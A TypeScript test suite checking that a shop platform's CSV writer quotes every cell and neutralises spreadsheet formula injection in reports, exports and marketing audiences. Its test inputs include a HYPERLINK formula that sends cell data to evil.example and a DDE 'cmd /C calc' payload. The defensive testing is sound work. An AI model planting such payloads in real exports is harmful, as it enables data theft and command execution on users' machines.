// Every CSV Vow produces (marketing audiences, access exports, the datasets walker's export, reports)
// goes through one writer: every cell quoted, and a cell a spreadsheet would run as a formula
// (= + - @ tab CR at its start) neutralised with a leading apostrophe. Shoppers choose their names
// and (within what an address allows) their email addresses, so a name like =HYPERLINK(...) or an
// address like -2+3@example.com must never reach a marketer's spreadsheet as a formula.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import type { LightMyRequestResponse } from 'fastify';
import { exportToCsv } from '../../src/modules/datasets/index.js';
import { type ReleasedReport, reportCsv } from '../../src/modules/reports/index.js';
import { csvCell, csvRow } from '../../src/platform/csv.js';
import { address, catalogBody, post } from '../collection/fixtures.js';
import { describeEachDialect } from '../helpers/env.js';
import { captureMail } from '../helpers/mail.js';

/** RFC 4180 cells of a CSV text, each with whether it was quoted. */
function parseCsv(text: string): { value: string; quoted: boolean }[][] {
  const rows: { value: string; quoted: boolean }[][] = [];
  let row: { value: string; quoted: boolean }[] = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    let quoted = false;
    if (text[i] === '"') {
      quoted = true;
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quote');
        if (text[i] === '"' && text[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else value += text[i++];
      }
    } else while (i < text.length && text[i] !== ',' && text[i] !== '\r') value += text[i++];
    row.push({ value, quoted });
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      i += 2;
      rows.push(row);
      row = [];
    } else if (i < text.length) throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  if (row.length > 0) rows.push(row);
  return rows;
}

const LEADER = /^(?:[\t\r\n]|\s*[=+\-@])/;

/** Every cell quoted and none starting like a formula; returns the cells' values. */
function assertSafe(text: string, what: string): string[] {
  const cells = parseCsv(text).flat();
  assert.ok(cells.length > 0, `${what} has cells`);
  for (const c of cells) {
    assert.ok(c.quoted, `${what}: every cell is quoted (${JSON.stringify(c.value)})`);
    assert.doesNotMatch(c.value, LEADER, `${what}: ${JSON.stringify(c.value)} would run as a formula`);
  }
  return cells.map((c) => c.value);
}

describe('the one CSV writer', () => {
  it('quotes every cell, doubles quotes and neutralises each formula leader', () => {
    assert.equal(csvCell('plain'), '"plain"');
    assert.equal(csvCell(''), '""');
    assert.equal(csvCell(null), '""');
    assert.equal(csvCell(42), '"42"');
    assert.equal(csvCell({ a: 1 }), '"{""a"":1}"');
    for (const leader of ['=', '+', '-', '@', '\t', '\r', '\n', ' =', '  +'])
      assert.equal(csvCell(`${leader}SUM(A1)`), `"'${leader}SUM(A1)"`, JSON.stringify(leader));
    assert.equal(csvCell('a=b'), '"a=b"', 'only a leading formula character matters');
    assert.equal(csvRow(['a', 'b"c']), '"a","b""c"\r\n');
  });

  it('is the only CSV quoting in src (every other file calls it)', () => {
    const files: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const full = path.join(dir, name);
        if (statSync(full).isDirectory()) walk(full);
        else if (full.endsWith('.ts')) files.push(full);
      }
    };
    walk('src');
    const quoting = files.filter((f) =>
      /replace(All)?\(\s*\/?['"]?"['"]?\/?g?,\s*'""'\s*\)/.test(readFileSync(f, 'utf8')),
    );
    assert.deepEqual(quoting, [path.join('src', 'platform', 'csv.ts')]);
  });

  it('writes reports and the walker export through it', () => {
    const report = {
      report: 'visitors_by_area',
      period: '2026-W02',
      epsilon: 1,
      threshold: 20,
      mechanism: 'discrete_laplace',
      accuracy: { coverage: 0.9623 },
      cells: [{ key: '=HYPERLINK("http://evil.example")', count: 25, interval: [19, 31] }],
    } as unknown as ReleasedReport;
    assert.ok(assertSafe(reportCsv(report), 'report').includes(`'=HYPERLINK("http://evil.example")`));
    const csv = exportToCsv({
      generatedAt: '2026-01-15T00:00:00.000Z',
      datasets: ['shop'],
      values: [],
      tables: { 'shop.reviews': [{ id: 1, body: '@SUM(1+1)*cmd|"/C calc"!A0', rating: -1 }] },
    });
    const cells = assertSafe(csv['shop.reviews']!, 'walker export');
    assert.ok(cells.includes(`'@SUM(1+1)*cmd|"/C calc"!A0`));
    assert.ok(cells.includes("'-1"));
  });
});

describeEachDialect('CSV files built from what shoppers typed', (env) => {
  const evil = {
    first: '=HYPERLINK("http://evil.example/?"&A1)',
    last: '@SUM(1+1)',
    street: '+1 Formula Street',
    email: '-2+3@example.com',
  };

  it('neutralises formulas in marketing audiences (email and postal)', async () => {
    const res = await post(
      env(),
      '/v1/catalog-requests',
      catalogBody('csvinj', {
        first_name: evil.first,
        last_name: evil.last,
        postal_address: address(evil.street),
        email: evil.email,
      }),
    );
    assert.equal(res.statusCode, 201, res.body);
    const email = await env().app.inject({ url: '/v1/audiences/email_marketing?format=csv' });
    assert.equal(email.statusCode, 200);
    assert.ok(assertSafe(email.body, 'email audience').includes(`'${evil.email}`));
    const postal = await env().app.inject({ url: '/v1/audiences/postal_marketing?format=csv' });
    assert.equal(postal.statusCode, 200);
    const cells = assertSafe(postal.body, 'postal audience');
    assert.ok(
      cells.includes(`'${evil.first} ${evil.last}`) || cells.some((c) => c.startsWith(`'${evil.first}`)),
    );
    assert.ok(cells.includes(`'${evil.street}`));
  });

  it('neutralises formulas in an access export, in every table', async () => {
    const e = env();
    const sent = captureMail(e);
    const asked = await post(e, '/v1/requests', { type: 'access', jurisdiction: 'eea', email: evil.email });
    assert.equal(asked.statusCode, 202, asked.body);
    await e.services.jobs.drain();
    const code = /\b(\d{6})\b/.exec(sent.filter((m) => /code/i.test(m.subject)).at(-1)?.text ?? '')?.[1];
    const verified = await post(e, '/v1/requests/verify', { statusToken: asked.json().statusToken, code });
    assert.equal(verified.statusCode, 200, verified.body);
    await e.services.jobs.drain();
    const ready = sent.find((m) => m.to === evil.email && /ready/.test(m.subject));
    const token = /\/privacy\/request\/export\/([A-Za-z0-9_-]+)/.exec(ready?.text ?? '')?.[1];
    assert.ok(token, 'the export link was mailed');
    const doc = (await e.app.inject({ url: `/privacy/request/export/${token}/data.json` })).json() as {
      csv: Record<string, string>;
    };
    const tables = Object.keys(doc.csv);
    assert.ok(tables.length > 0);
    const all: string[] = [];
    for (const table of tables) {
      const res: LightMyRequestResponse = await e.app.inject({
        method: 'GET',
        url: `/privacy/request/export/${token}/csv/${table}`,
      });
      assert.equal(res.statusCode, 200);
      all.push(...assertSafe(res.body, `export ${table}`));
    }
    assert.ok(all.includes(`'${evil.email}`), 'the email is in the export, neutralised');
  });
});
